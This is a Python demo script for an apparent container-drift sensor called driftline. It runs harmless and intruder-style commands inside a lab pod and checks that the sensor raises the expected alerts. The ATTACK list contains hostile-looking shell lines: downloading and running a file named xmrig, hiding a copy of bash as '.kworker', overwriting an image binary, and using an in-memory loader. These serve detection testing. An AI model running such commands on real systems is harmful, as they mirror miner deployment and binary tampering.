"""The demo: a real container, a real attacker in it, and the sensor that sees and stops the drift.

Starts a private containerd, runs the image ``web`` (a shell and a few programs, no wget) as a
pod, starts ``driftline sensor`` on it, and then does in the container what intruders and
careless people do. Everything is removed at the end; the store is kept to look at.
"""

from __future__ import annotations

import contextlib
import http.server
import json
import os
import shutil
import subprocess
import sys
import tempfile
import threading
import time
from collections.abc import Iterator
from functools import partial
from pathlib import Path

import lab
from lab import LabContainer

STORE = Path("/var/tmp/driftline-demo/store")
POLICY = Path(__file__).parent.parent / "deploy" / "policies" / "demo.yaml"
DRIFTLINE = (sys.executable, "-m", "driftline.cli")
PAUSE = 1.0

# What is done in the container: a line for people, the shell's words, and whether it is drift.
INNOCENT = (
    ("runs a program of the image", "ls / >/dev/null; id >/dev/null"),
    ("changes the mode of an image program, and runs it", "chmod 0711 /usr/bin/head; head -c0 /etc/hostname"),
    ("touches an image program, and runs it", "touch /usr/bin/env; env true"),
)
ATTACK = (
    ("runs the wget that came along: the image has none", "/tmp/wget -q -O /tmp/xmrig http://127.0.0.1:{port}/tool"),
    ("runs what wget brought", "chmod +x /tmp/xmrig; /tmp/xmrig sleep 0.1"),
    ("copies the image's shell to another name", "cp /bin/bash /tmp/.kworker; /tmp/.kworker -c true"),
    ("overwrites an image program in place", "cat /tmp/wget > /usr/bin/head; head -c0 /etc/hostname"),
    ("runs a script of its own", "echo id > /tmp/x.sh; sh /tmp/x.sh >/dev/null"),
    ("makes a loader of its own run a program that never was a file", "/tmp/loader /bin/sleep kworker 0.3"),
)
BLOCKED = ("runs the wget that came along, where the policy blocks", "/tmp/wget --help; echo exit code $?")
EXPECTED = 8  # the loader and what it loads are two


def say(text: str = "") -> None:
    print(text, flush=True)


@contextlib.contextmanager
def downloads() -> Iterator[int]:
    """Serve a folder with one tool on loopback; gives the port."""
    with tempfile.TemporaryDirectory() as folder:
        shutil.copy("/bin/busybox", Path(folder, "tool"))
        handler = partial(QuietHandler, directory=folder)
        server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield server.server_address[1]
        server.shutdown()


class QuietHandler(http.server.SimpleHTTPRequestHandler):
    def log_message(self, *_: object) -> None:
        """Say nothing of each request."""


@contextlib.contextmanager
def sensor(socket: Path) -> Iterator[None]:
    """Run the sensor; its alerts appear in this terminal."""
    command = (
        *DRIFTLINE, "sensor", "--policy", POLICY, "--store", STORE, "--runtime", socket,
        "--images", STORE.parent / "images", "--cluster", "demo", "--listen", "127.0.0.1:0",
    )  # fmt: skip
    process = subprocess.Popen(command, stderr=subprocess.PIPE, text=True)
    assert process.stderr is not None
    say(process.stderr.readline().rstrip())
    threading.Thread(target=lambda: [say(line.rstrip()) for line in process.stderr or ()], daemon=True).start()
    try:
        yield
    finally:
        process.terminate()
        process.wait(timeout=30)


def act(container: LabContainer, about: str, script: str) -> None:
    say(f"\n\033[2m# someone in the container {about}\033[0m\n\033[1m$ {script}\033[0m")
    result = container.sh(script)
    if result.stdout:
        say(result.stdout.decode().rstrip())
    time.sleep(PAUSE)


def bring(container: LabContainer, name: str, content: bytes) -> None:
    """Put a tool into the container, as `kubectl cp` does."""
    container.sh(f"cat > /tmp/{name}; chmod +x /tmp/{name}", stdin=content)


def main() -> None:
    if os.geteuid():
        sys.exit("demo: needs root, for containers and eBPF")
    shutil.rmtree(STORE, ignore_errors=True)
    with lab.start("demo") as it, downloads() as port:
        web = it.pod("web-1", namespace="shop", labels={"app": "web"}).container("web")
        with sensor(it.socket):
            say("\n== innocent: nothing may appear below ==")
            for about, script in INNOCENT:
                act(web, about, script)
            say("\n== drift: each must appear as an alert ==")
            bring(web, "wget", Path("/bin/busybox").read_bytes())
            bring(web, "loader", it.pod("tools").container("busybox").exec("cat", "/opt/lab/memexec").stdout)
            for about, script in ATTACK:
                act(web, about, script.format(port=port))
            say("\n== prevention: not one instruction of it may run ==")
            payments = it.pod("pay-1", namespace="payments", labels={"app": "pay"}).container("web")
            bring(payments, "wget", Path("/bin/busybox").read_bytes())
            act(payments, *BLOCKED)
    say("\n== the same, read back from the store: driftline alerts ==")
    subprocess.run((*DRIFTLINE, "alerts", "--store", STORE), check=True)
    check()


def check() -> None:
    """Fail unless the store has exactly the alerts that the attack deserves."""
    command = (*DRIFTLINE, "alerts", "--store", STORE, "--output", "json")
    alerts = json.loads(subprocess.run(command, check=True, capture_output=True).stdout)
    if len(alerts) != EXPECTED:
        sys.exit(f"demo: expected {EXPECTED} alerts, the store has {len(alerts)}")
    say(f"\n{len(alerts)} alerts, and none for the {len(INNOCENT)} innocent acts. The store is {STORE}: try")
    say(f"  .venv/bin/driftline alerts --store {STORE}\n  .venv/bin/driftline events --store {STORE} --drift yes")


if __name__ == "__main__":
    main()
